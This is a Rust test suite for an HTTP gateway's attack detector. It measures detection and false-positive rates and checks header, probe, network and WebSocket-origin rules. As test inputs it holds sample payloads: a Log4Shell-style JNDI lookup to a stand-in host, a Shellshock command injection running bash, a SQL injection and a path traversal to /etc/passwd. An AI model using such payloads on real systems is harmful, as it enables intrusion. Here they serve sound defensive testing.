//! How many attacks are found, and how many requests of good will are called one, on a corpus of both.
//!
//! `OUTRIDER_ATTACKS` and `OUTRIDER_REQUESTS` name further files of request targets (what a tool sent, what a log holds): the
//! rates on them are printed.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::sync::LazyLock;
use std::time::{Duration, Instant};

use outrider::config::{self, Severity};
use outrider::observe::security::{Detector, Kind};
use proptest::prelude::*;

/// Detection that the corpus must show, in percent.
const DETECTION: usize = 99;
/// False positives that it may show, in percent.
const FALSE_POSITIVES: usize = 0;

fn lines(path: PathBuf) -> Vec<String> {
    let bytes = std::fs::read(&path).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
    let text = String::from_utf8_lossy(&bytes);
    text.lines().filter(|line| !line.is_empty() && !line.starts_with('#')).map(str::to_owned).collect()
}

fn corpus(name: &str) -> Vec<String> {
    lines([env!("CARGO_MANIFEST_DIR"), "tests/corpus/security", name].iter().collect())
}

/// The detector of a configuration.
fn detector(yaml: &str) -> Detector {
    let config = config::parse(yaml, std::path::Path::new(""), &|_| None).expect("a configuration of a test");
    Detector::new(&config.security.detectors)
}

fn percent(part: usize, whole: usize) -> f64 {
    100.0 * part as f64 / whole.max(1) as f64
}

#[test]
fn attacks_are_found_as_what_they_are() {
    let detector = detector("");
    let (mut all, mut missed) = (BTreeMap::<String, usize>::new(), Vec::new());
    for line in corpus("attacks.txt") {
        let (kind, target) = line.split_once('\t').expect("a type and a target");
        *all.entry(kind.to_owned()).or_default() += 1;
        if !detector.target(target.as_bytes(), 404).iter().any(|found| found.as_str() == kind) {
            missed.push(line);
        }
    }
    let count: usize = all.values().sum();
    println!(
        "{} of {count} attacks found ({:.1} %); {all:?}",
        count - missed.len(),
        100.0 - percent(missed.len(), count)
    );
    assert!(count > 200 && missed.len() * 100 <= count * (100 - DETECTION), "missed:\n{}", missed.join("\n"));
}

#[test]
fn requests_of_good_will_are_no_attacks() {
    let detector = detector("");
    let targets = corpus("requests.txt");
    let called = |target: &String| {
        let kinds: Vec<_> = detector.target(target.as_bytes(), 200).iter().map(Kind::as_str).collect();
        (!kinds.is_empty()).then(|| format!("{target} {kinds:?}"))
    };
    let wrong: Vec<_> = targets.iter().filter_map(called).collect();
    println!(
        "{} of {} requests called an attack ({:.1} %)",
        wrong.len(),
        targets.len(),
        percent(wrong.len(), targets.len())
    );
    assert!(targets.len() > 200 && wrong.len() * 100 <= targets.len() * FALSE_POSITIVES, "{}", wrong.join("\n"));
}

#[test]
fn further_files_are_judged_where_they_are_named() {
    let detector = detector("");
    for (variable, wants_attacks) in [("OUTRIDER_ATTACKS", true), ("OUTRIDER_REQUESTS", false)] {
        let Some(path) = std::env::var_os(variable) else { continue };
        let targets = lines(path.into());
        let odd: Vec<_> = targets
            .iter()
            .filter(|target| detector.target(target.as_bytes(), 200).is_empty() == wants_attacks)
            .collect();
        for target in &odd {
            let kinds: Vec<_> = detector.target(target.as_bytes(), 200).iter().map(Kind::as_str).collect();
            println!("{variable}: {target} {kinds:?}");
        }
        println!("{variable}: {} of {} ({:.2} %)", odd.len(), targets.len(), percent(odd.len(), targets.len()));
    }
}

/// Prints what a judgement takes. It is made off the data path, but at the rate of the requests.
#[test]
fn a_judgement_takes_microseconds_where_optimised() {
    let built = Instant::now();
    let detector = detector("");
    let built = built.elapsed();
    let targets = corpus("requests.txt");
    let round = || {
        let start = Instant::now();
        let found = targets.iter().filter(|target| !detector.target(target.as_bytes(), 200).is_empty()).count();
        (start.elapsed() / targets.len() as u32, found)
    };
    // The best of many rounds is what the code takes; the rest is what else the machine had to do.
    let (time, _) = (0..20).map(|_| round()).min().unwrap_or_default();
    println!("{time:?} a request, signatures compiled in {built:?}");
    assert!(cfg!(debug_assertions) || time < Duration::from_micros(20), "{time:?}");
}

#[test]
fn a_probe_counts_only_where_the_gateway_has_no_such_file() {
    let detector = detector("");
    for (status, expected) in [(404, true), (403, true), (200, false), (302, false)] {
        assert_eq!(detector.target(b"/wp-login.php", status).contains(Kind::FileProbe), expected, "{status}");
    }
}

#[test]
fn headers_that_are_logged_are_looked_at() {
    let detector = detector("");
    assert!(detector.agent(b"${jndi:ldap://x.example/a}").contains(Kind::CodeInjection));
    assert!(detector.agent(b"() { :;}; /bin/bash -c 'id'").contains(Kind::CommandInjection));
    assert!(detector.agent(b"sqlmap/1.8").contains(Kind::Scanner));
    assert!(detector.header(b"https://example.com/?q=${x}").is_empty());
    assert!(detector.agent(b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0").is_empty());
}

#[test]
fn what_is_off_is_not_found_and_severities_are_the_configuration_s() {
    let yaml = "security: { detectors: { injection: { enabled: false }, path_traversal: { severity: low } } }";
    let detector = detector(yaml);
    assert!(detector.target(b"/a?id=1'+or+1=1--", 200).is_empty());
    assert!(detector.target(b"/a?f=../../../etc/passwd", 200).contains(Kind::PathTraversal));
    assert_eq!(detector.severity(Kind::PathTraversal), Some(Severity::Low));
    assert_eq!(detector.severity(Kind::SqlInjection), None);
    assert_eq!(detector.severity(Kind::RequestSmuggling), Some(Severity::Critical));
}

#[test]
fn a_client_of_a_denied_network_is_known_over_either_protocol() {
    let detector = detector("security: { detectors: { denied_network: { networks: [ 10.0.0.0/8, 2001:db8::/32 ] } } }");
    for (client, expected) in
        [("10.1.2.3", true), ("::ffff:10.1.2.3", true), ("2001:db8::1", true), ("11.1.2.3", false), ("::1", false)]
    {
        assert_eq!(detector.is_denied(client.parse().expect("an address")), expected, "{client}");
    }
}

#[test]
fn a_handshake_from_a_page_of_another_origin_is_known() {
    let detector = detector("security: { detectors: { websocket_origin: { allow: [ https://app.example.com ] } } }");
    for (origin, host, expected) in [
        (Some("https://api.example.com"), "api.example.com", false),
        (Some("https://api.example.com:443"), "API.example.com", false),
        (Some("http://api.example.com:8080"), "api.example.com:8080", false),
        (Some("https://app.example.com"), "api.example.com", false),
        (None, "api.example.com", false),
        (Some("https://evil.example"), "api.example.com", true),
        (Some("https://api.example.com.evil.example"), "api.example.com", true),
        (Some("http://api.example.com:8081"), "api.example.com:8080", true),
        (Some("null"), "api.example.com", true),
    ] {
        let crosses = detector.crosses_origin(origin.map(str::as_bytes), host.as_bytes());
        assert_eq!(crosses, expected, "{origin:?} at {host}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(200) })]

    #[test]
    fn any_bytes_are_judged(target in proptest::collection::vec(any::<u8>(), 0..2000), percents in any::<bool>()) {
        static DETECTOR: LazyLock<Detector> = LazyLock::new(|| detector(""));
        let detector = &*DETECTOR;
        let text: Vec<u8> = if percents { target.iter().flat_map(|byte| format!("%{byte:02x}").into_bytes()).collect() } else { target };
        let _ = detector.target(&text, 404);
        let _ = detector.agent(&text);
    }
}
